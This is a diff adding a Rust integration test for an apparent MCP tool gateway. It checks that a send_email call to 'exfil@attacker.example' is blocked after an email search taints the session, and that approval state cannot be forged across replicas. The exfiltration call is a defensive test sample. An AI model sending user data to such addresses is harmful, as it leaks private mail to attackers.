@@ -524,3 +524,87 @@ fn a_session_is_refused_to_another_user_and_an_unknown_id_is_404() {
     assert_eq!(r.status, 404);
     let _ = initialize(1);
 }
+
+/// A 2026-07-28 request: no session, the revision and capabilities in its own `_meta`.
+fn stateless(gw: &GatewayProcess, id: u64, tool: &str, args: Value, extra: Value) -> Value {
+    let mut params = json!({"name": tool, "arguments": args, "_meta": {
+        "io.modelcontextprotocol/protocolVersion": "2026-07-28",
+        "io.modelcontextprotocol/clientCapabilities": {"elicitation": {"form": {}}}}});
+    if let (Some(p), Some(e)) = (params.as_object_mut(), extra.as_object()) {
+        p.extend(e.clone());
+    }
+    let msg = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params});
+    let reply = toolgate_testkit::http::request(
+        &gw.addr,
+        "POST",
+        "/servers/mail/mcp",
+        &[
+            ("Content-Type", "application/json"),
+            ("Accept", "application/json, text/event-stream"),
+            ("Authorization", &format!("Bearer {TOKEN}")),
+            ("MCP-Protocol-Version", "2026-07-28"),
+        ],
+        msg.to_string().as_bytes(),
+    );
+    assert_eq!(reply.status, 200);
+    assert!(
+        reply.header("mcp-session-id").is_none(),
+        "no session in 2026-07-28"
+    );
+    message_of(reply)
+}
+
+#[test]
+fn stateless_requests_land_on_any_replica_as_one_agent_session() {
+    let Some(d) = deploy("") else { return };
+    // Taint read through A denies a send through B.
+    let read = stateless(&d.a, 1, "search_emails", json!({"query": "q"}), json!({}));
+    assert!(allowed(&read), "{read}");
+    let send = stateless(
+        &d.b,
+        2,
+        "send_email",
+        json!({"to": ["exfil@attacker.example"], "subject": "k", "body": "x"}),
+        json!({}),
+    );
+    assert!(blocked(&send).is_some(), "{send}");
+    // An ask comes back as `input_required` with a sealed state; the retry with the answer
+    // is verified and carried by the other replica.
+    let to_partner = json!({"to": ["bob@partner.example"], "subject": "s", "body": "x"});
+    let asked = stateless(&d.a, 3, "send_email", to_partner.clone(), json!({}));
+    assert_eq!(
+        asked["result"]["resultType"],
+        json!("input_required"),
+        "{asked}"
+    );
+    let state = asked["result"]["requestState"].clone();
+    let key = asked["result"]["inputRequests"]
+        .as_object()
+        .unwrap()
+        .keys()
+        .next()
+        .unwrap()
+        .clone();
+    let retry = stateless(
+        &d.b,
+        4,
+        "send_email",
+        to_partner.clone(),
+        json!({"requestState": state, "inputResponses": {key.clone(): {"action": "accept", "content": {"decision": "allow_once"}}}}),
+    );
+    assert!(allowed(&retry), "{retry}");
+    // A forged state is refused.
+    let forged = stateless(
+        &d.b,
+        5,
+        "send_email",
+        to_partner,
+        json!({"requestState": "tg1.forged", "inputResponses": {key: {"action": "accept", "content": {"decision": "allow_once"}}}}),
+    );
+    assert!(!allowed(&forged), "{forged}");
+    let sends: Vec<Value> = received(&d.record)
+        .into_iter()
+        .filter(|r| r["name"] == json!("send_email"))
+        .collect();
+    assert_eq!(sends.len(), 1, "only the approved send ran: {sends:?}");
+}
